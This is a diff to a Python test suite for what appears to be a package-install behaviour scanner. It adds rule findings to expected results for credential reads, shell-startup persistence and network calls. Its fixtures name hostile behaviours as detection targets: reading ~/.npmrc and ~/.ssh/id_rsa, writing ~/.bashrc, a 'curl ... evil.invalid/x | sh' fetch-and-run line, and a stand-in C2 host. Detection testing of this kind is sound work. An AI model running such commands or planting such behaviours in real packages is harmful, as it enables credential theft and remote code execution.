@@ -39,11 +39,14 @@ DEVIATION_KEYS = {"id", "run_id", "package", "kind", "severity", "value", "actor
 # must all be there (kind, value, severity); `only`: nothing else may be.
 VARIANTS = {
     "npmrc": {"version": "2.0.0", "only": True,
-              "findings": [("fs_cred_read", "~/.npmrc", "critical")]},
+              "findings": [("fs_cred_read", "~/.npmrc", "critical"),
+                           ("rule:cred-read-by-script", "~/.npmrc", "critical")]},
     "ssh_key": {"version": "2.1.0", "only": True,
-                "findings": [("fs_cred_read", "~/.ssh/id_rsa", "critical")]},
+                "findings": [("fs_cred_read", "~/.ssh/id_rsa", "critical"),
+                             ("rule:cred-read-by-script", "~/.ssh/id_rsa", "critical")]},
     "bashrc": {"version": "2.2.0", "only": True,
-               "findings": [("fs_new_path_write", "~/.bashrc", "medium")]},
+               "findings": [("fs_new_path_write", "~/.bashrc", "medium"),
+                            ("rule:persistence-shell-startup", "~/.bashrc", "critical")]},
     # curl itself may be missing (docker image) or fail: the sh -c line is what counts
     "curl_pipe_sh": {"version": "2.3.0", "only": False,
                      "findings": [("proc_new_exec", "/usr/bin/sh -c curl -fsSL http://evil.invalid/x | sh",
@@ -54,7 +57,9 @@ VARIANTS = {
                                  ("net_new_destination", "198.51.100.23:8443/tcp", "high")]},
     "tls_sni": {"version": "2.5.0", "only": True,
                 "findings": [("net_new_https_host", "c2.evil.invalid", "high"),
-                             ("net_new_destination", "203.0.113.10:443/tcp", "high")]},
+                             ("net_new_destination", "203.0.113.10:443/tcp", "high"),
+                             ("rule:script-network-not-registry", "c2.evil.invalid", "high"),
+                             ("rule:script-network-not-registry", "203.0.113.10:443/tcp", "high")]},
 }
 
 SEVERITIES = ["info", "low", "medium", "high", "critical"]
@@ -216,12 +221,15 @@ class ScanBase:
         self.assertEqual(p.returncode, 3, p.stderr)
         self.assertIn("banner@2.1.0", p.stdout)
         self.assertIn("~/.ssh/id_rsa", p.stdout)
-        self.assertIn("1 new behaviour, highest critical (fails)", p.stdout)
+        self.assertIn("1 rule finding:", p.stdout)
+        self.assertIn("verdict: 2 findings, highest critical (fails)", p.stdout)
         run_id = p.stdout.split()[1].rstrip(":")
         devs = self.jfangs("deviation", "list", "--run", run_id)
-        self.assertEqual([(d["kind"], d["value"], d["severity"]) for d in devs],
-                         [("fs_cred_read", "~/.ssh/id_rsa", "critical")])
-        self.assert_origin(devs[0], "banner", "2.1.0", "postinstall", "node postinstall.js")
+        self.assertEqual(sorted((d["kind"], d["value"], d["severity"]) for d in devs),
+                         [("fs_cred_read", "~/.ssh/id_rsa", "critical"),
+                          ("rule:cred-read-by-script", "~/.ssh/id_rsa", "critical")])
+        for d in devs:
+            self.assert_origin(d, "banner", "2.1.0", "postinstall", "node postinstall.js")
         self.assertIn(run_id, [r["id"] for r in self.jfangs("pending")])
 
     def test_writes_bashrc(self):
@@ -249,10 +257,11 @@ class ScanBase:
         out = self.scan_json("colors-app", code=3)
         self.assert_clean_run(out, "colors-app", "1.1.0", "pending")
         self.assertEqual([(d["kind"], d["value"], d["severity"]) for d in out["deviations"]],
-                         [("fs_cred_read", "~/.npmrc", "critical")])
-        dev = out["deviations"][0]
-        self.assertEqual(dev["package"], "colors-app", "the finding belongs to the scanned package")
-        self.assert_origin(dev, "palette", "1.1.0", "install", "node build.js")
+                         [("rule:cred-read-by-script", "~/.npmrc", "critical"),
+                          ("fs_cred_read", "~/.npmrc", "critical")])
+        for dev in out["deviations"]:
+            self.assertEqual(dev["package"], "colors-app", "the finding belongs to the scanned package")
+            self.assert_origin(dev, "palette", "1.1.0", "install", "node build.js")
 
 
 class ScanNs(ScanBase, unittest.TestCase):
